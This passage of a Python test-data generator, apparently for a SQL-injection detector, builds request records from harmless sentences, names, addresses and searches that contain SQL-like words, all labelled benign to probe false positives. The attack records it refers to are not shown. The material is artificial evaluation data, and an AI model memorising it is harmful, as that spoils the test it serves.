    "The merge of the two companies completed on 1 March; the new board will execute the strategy.",
    "Match the socks against the chart, then drop them in the basket.",
    "We need to alter the dress for the wedding; the tailor is on Union Road.",
    "If the weather is good, we will go hiking; else we stay home and play chess.",
    "Case 1: the customer wants a refund. Case 2: the customer wants a replacement.",
    "The shutdown of the plant was announced for the end of the year.",
    "Wait for delay notifications before you leave the station.",
    "Insert the card, select your language and follow the instructions on the screen.",
    "Update: the table for 6 is booked at 7 pm under the name O'Connor.",
    "The version of the contract dated 3 April is the one that counts.",
    "The user manual describes how to create a new user and grant access to the shared drive.",
    "Having a dual-citizenship makes travel easier, or so I heard.",
    "The values 1 or 2 are both fine for the quantity field.",
    "It's 5 o'clock somewhere, as they say.",
    "The sum of 2 and 2 is 4, not 5; check the spreadsheet again.",
    "Our charter says the members shall execute the decisions of the general assembly.",
    "Sleep, benchmark and hydration tips from our wellness newsletter.",
    "The Mongo family reunion is in August this year.",
    "Char-grilled vegetables, with a side of rice, are on the menu today.",
    "The hex key fits the screw on the left side of the shelf.",
    "Ask Seán O'Neill where the stored boxes went after the move.",
    "The session ends at noon; lunch is in the hall where the posters are.",
    "Join us in celebrating the union of Anna and Mark on 14 June.",
    "Between 1 and 10, how likely are you to recommend us to a friend?",
    "The coffee shop at the corner of Union and Market is closed for renovation.",
    "In the end, the committee decided to drop the proposal entirely.",
    "Select two options from the list below and explain your choice.",
    "The benchmark index fell 2% while the tech sector gained.",
    "The tenants must not alter the walls without written permission.",
    "Concatenate your first name and last name in the signature field.",
    "Execution of the will is the executor's responsibility.",
    "Apply the coupon code at checkout, where the total is shown.",
    "The event runs from 9:00 to 17:00 -- breaks included.",
    "Table tennis tournament: sign up by Friday; drop-ins welcome.",
    "Is the meeting room booked? If not, please book it for 2 pm.",
    "The 'Like' button counts once per user.",
    "Please procedure-check the fire exits before the audit.",
    "Truncated receipts will not be accepted for reimbursement.",
    "We offer a sleep consultation with a benchmark of your current habits.",
    "The JSON export contains your orders, addresses and preferences.",
    "The database course covers SELECT, INSERT, UPDATE and DELETE in week 2.",
    "Grant writing workshop: how to apply for union funding.",
    "Load the dishwasher, then select the eco program.",
    "Where is the union hall? Next to the library on Elm Street.",
    "The exit interview is optional, but we value your feedback.",
]

NAMES = [
    "Siobhán O'Brien", "D'Angelo Russell", "Mary-Kate O'Neil", "Jean-Luc D'Arcy", "Union Pacific",
    "Select Comfort Corp", "Sleep Number", "Benchmark Capital", "Match Group", "Merge Records",
    "Alter Ego Studio", "Case Western Reserve", "Drop Bear Café", "Order of St John", "Table Mountain Tours",
    "Char & Co. Grill", "Hex Games", "Mongo Sánchez", "Dual Fuel Ltd", "Version 2 Design",
]
ADDRESSES = [
    "12 Union Street, Glasgow G1 3QX", "1 Union Square, San Francisco, CA 94108", "45 Select Ave, Apt 2B",
    "Sleepy Hollow Rd 7, Tarrytown NY", "8 Benchmark Way, Reading RG1", "23 O'Connell Street, Dublin 1",
    "Match Lane 4, Bristol BS1", "300 Merge Blvd, Suite #12", "14 Table Bay Blvd, Cape Town",
    "77 Exec Park Drive, Unit 3", "Rue de l'Union 9, 1210 Bruxelles", "Where Street 1, Flat 1/2",
]
SEARCHES = [
    "union select furniture", "sleep benchmark study 2024", "mongodb where clause tutorial",
    "how to drop a table in postgres", "sql union vs union all", "alter table add column default",
    "merge two tables sql server", "mysql json_extract example", "pg_sleep vs sleep",
    "o'reilly sql cookbook", "waitfor delay sql server", "case when sql example",
    "order by desc limit 10", "1 or 2 bedroom flat", "select a size", "benchmark and sleep",
    "execute immediate oracle docs", "match against boolean mode", "hex to decimal converter",
    "tautology definition",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for kind, values, field in (("name", NAMES, "name"), ("address", ADDRESSES, "address"),
                                ("search", SEARCHES, "q")):
        for v in values:
            for rec, where in ((_get(_query("/api/users", [(field, v), ("page", "1")])), "query"),
                               (_form("/admin/users/search", [("csrf_token", "t0k3n"), (field, v)]), "form"),
                               (_json("/api/users", {"email": "a@example.org", field: v}), "json")):
                n += 1
                yield {**rec, "id": f"{prefix}-{kind}-{n:04d}", "category": "benign", "placement": where}


if __name__ == "__main__":
    print_records(attacks(), benign())
